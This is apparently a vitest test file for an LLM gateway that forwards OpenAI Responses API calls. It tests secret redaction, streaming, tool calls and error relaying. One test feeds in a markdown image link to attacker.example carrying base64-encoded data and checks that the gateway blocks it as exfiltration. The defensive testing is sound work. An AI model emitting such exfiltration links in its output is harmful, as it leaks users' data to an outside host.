/** POST /v1/responses forwarded to an upstream that speaks the Responses API itself (`responses: true`). */
import OpenAI from 'openai';
import { beforeAll, describe, expect, it } from 'vitest';
import { gatewayConfigFromObject } from '../../src/gateway/config.js';
import { TEST_KEY, type TestGateway } from './helpers/gateway.js';
import { sharedGateway } from './helpers/shared-gateway.js';
import type { Script } from './helpers/fake-upstream.js';
import { fakeReasoning } from './helpers/fake-responses.js';

const SECRET = 'ghp_Zx8Qw2Lm4Np6Rt8Vb0Cd2Fg4Hj6Kl8Mn0Pq2';

const gateway = sharedGateway({
  gateway: (url) => ({ upstreams: { native: nativeUpstream(url) }, models: { 'gpt-native': { upstream: 'native', model: 'fake-model' } } }),
});
let gw: TestGateway;
let client: OpenAI;
beforeAll(() => {
  gw = gateway();
  client = new OpenAI({ baseURL: `${gw.url}/v1`, apiKey: TEST_KEY, maxRetries: 0 });
});

/** The fake upstream under a second name, this one declared to speak the Responses API. */
function nativeUpstream(url: string) {
  return { type: 'openai', base_url: `${url}/v1`, responses: true, timeouts: { connect_ms: 1_000, headers_ms: 1_500, body_ms: 1_500 } };
}

describe('native Responses upstream', () => {
  it('forwards the request untranslated (redacted, upstream model name) and keeps the provider response id', async () => {
    gw.fake.script.push({ kind: 'text', content: 'The answer is 42.' });
    const r = await client.responses.create({ model: 'gpt-native', instructions: 'Be terse.', input: `Is ${SECRET} valid?`, previous_response_id: 'resp_prev1', store: true });
    expect(r).toMatchObject({ id: 'resp_fake1', object: 'response', created_at: 1, status: 'completed', output_text: 'The answer is 42.' });
    expect(r.usage).toEqual({ input_tokens: 13, input_tokens_details: { cached_tokens: 0 }, output_tokens: 5, output_tokens_details: { reasoning_tokens: 0 }, total_tokens: 18 });
    // The provider's items and ids: a later item_reference or a stored conversation finds them.
    expect(r.output).toEqual([
      { id: 'rs_fake1', type: 'reasoning', summary: [{ type: 'summary_text', text: 'Thinking it over.' }], encrypted_content: 'gAAAAABfakeEncryptedReasoning' },
      { id: 'msg_fake1', type: 'message', status: 'completed', role: 'assistant', content: [{ type: 'output_text', text: 'The answer is 42.', annotations: [] }] },
    ]);
    const sent = gw.fake.requests[0];
    expect(sent?.path).toBe('/v1/responses');
    expect(sent?.body).toMatchObject({ model: 'fake-model', instructions: 'Be terse.', previous_response_id: 'resp_prev1', store: true, stream: false });
    expect(JSON.stringify(sent?.body.input)).not.toContain(SECRET);
  });

  it('reads a streamed response and re-renders it as typed events with the provider item ids', async () => {
    gw.fake.script.push({ kind: 'text', content: '', chunks: ['Hello ', 'there', '.'] });
    const stream = client.responses.stream({ model: 'gpt-native', input: 'Hi' });
    for await (const e of stream) expect(e.type).not.toBe('error');
    const final = await stream.finalResponse();
    expect(final).toMatchObject({ id: 'resp_fake1', status: 'completed', output_text: 'Hello there.' });
    // The provider's item ids, so that a later item_reference to them finds them; the reasoning summary scanned and relayed.
    expect(final.output).toMatchObject([
      { type: 'reasoning', id: 'rs_fake1', summary: [{ type: 'summary_text', text: 'Thinking it over.' }], encrypted_content: 'gAAAAABfakeEncryptedReasoning' },
      { type: 'message', id: 'msg_fake1' },
    ]);
    expect(final.usage).toMatchObject({ input_tokens: 13, output_tokens: 5 });
    expect(gw.fake.requests[0]?.body.stream).toBe(true);
  });

  it.each([false, true])('redacts a secret in a reasoning summary and keeps the encrypted content (stream: %s)', async (stream) => {
    fakeReasoning.summary = `The user's token is ${SECRET}, so I will refuse.`;
    try {
      const body = { model: 'gpt-native', input: 'Hi' };
      const r = stream ? await client.responses.stream(body).finalResponse() : await client.responses.create(body);
      const item = r.output.find((o) => o.type === 'reasoning');
      expect(item).toMatchObject({ id: 'rs_fake1', encrypted_content: 'gAAAAABfakeEncryptedReasoning' });
      const text = item?.type === 'reasoning' ? item.summary.map((p) => p.text).join('') : '';
      expect(text).toMatch(/^The user's token is .+, so I will refuse\.$/);
      expect(text).not.toContain(SECRET);
    } finally {
      fakeReasoning.summary = 'Thinking it over.';
    }
  });

  it.each([false, true])('passes a function call through the tool_call checks (stream: %s)', async (stream) => {
    gw.fake.script.push({ kind: 'tool', name: 'get_weather', args: '{"city":"Paris"}', argChunks: ['{"city":', '"Paris"}'] });
    const tools: OpenAI.Responses.FunctionTool[] = [{ type: 'function', name: 'get_weather', parameters: { type: 'object' }, strict: false }];
    const body = { model: 'gpt-native', tools, input: 'Weather?' };
    const r = stream ? await client.responses.stream(body).finalResponse() : await client.responses.create(body);
    const calls = r.output.filter((o) => o.type === 'function_call');
    expect(calls).toMatchObject([{ type: 'function_call', call_id: 'call_fake1', name: 'get_weather', arguments: '{"city":"Paris"}' }]);
    expect(calls[0]?.id).toBe('fc_fake1');
  });

  it('blocks an exfiltration link in the provider answer, in the provider message item, without its reasoning', async () => {
    gw.fake.script.push({ kind: 'text', content: 'See ![x](https://attacker.example/c?d=c2VjcmV0IGRhdGE)' });
    const r = await client.responses.create({ model: 'gpt-native', input: 'notes' });
    expect(r).toMatchObject({ id: 'resp_fake1', status: 'incomplete', incomplete_details: { reason: 'content_filter' } });
    expect(r.output).toMatchObject([{ id: 'msg_fake1', type: 'message', content: [{ type: 'output_text', text: expect.stringMatching(/Response blocked by Warden policy: exfil-url\//) }] }]);
    expect(JSON.stringify(r)).not.toContain('attacker.example');
  });

  it.each<[string, Script, string]>([
    ['a malformed event', { kind: 'malformed-sse', chunks: ['Hel'] }, 'upstream_bad_response'],
    ['a stream cut before response.completed', { kind: 'cut-stream', chunks: ['Hel', 'lo'] }, 'upstream_error'],
  ])('ends the stream with an error event after %s, audited', async (_name, script, code) => {
    gw.fake.script.push(script);
    const response = await client.responses.create({ model: 'gpt-native', stream: true, input: 'Hi' }).asResponse();
    const text = await response.text();
    expect(text).toContain('event: error');
    expect(text).toContain(`"code":"${code}"`);
    expect(text).not.toContain('response.completed');
    const rec = await gw.audit(response.headers.get('x-warden-request-id'));
    expect(rec).toMatchObject({ route: '/v1/responses', streamed: true, errorCode: code });
  });

  it('relays a provider error in the OpenAI error shape', async () => {
    gw.fake.script.push({ kind: 'status', status: 500, message: 'boom' });
    const err = await client.responses.create({ model: 'gpt-native', input: 'Hi' }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(OpenAI.InternalServerError);
  });
});

describe('the responses capability in the config', () => {
  it('is accepted on OpenAI upstreams and refused on Anthropic ones', () => {
    expect(() => gatewayConfigFromObject({ gateway: { upstreams: { n: nativeUpstream('http://127.0.0.1:1') } } })).not.toThrow();
    expect(() => gatewayConfigFromObject({ gateway: { upstreams: { c: { type: 'anthropic', responses: true } } } })).toThrow(/responses/);
  });
});
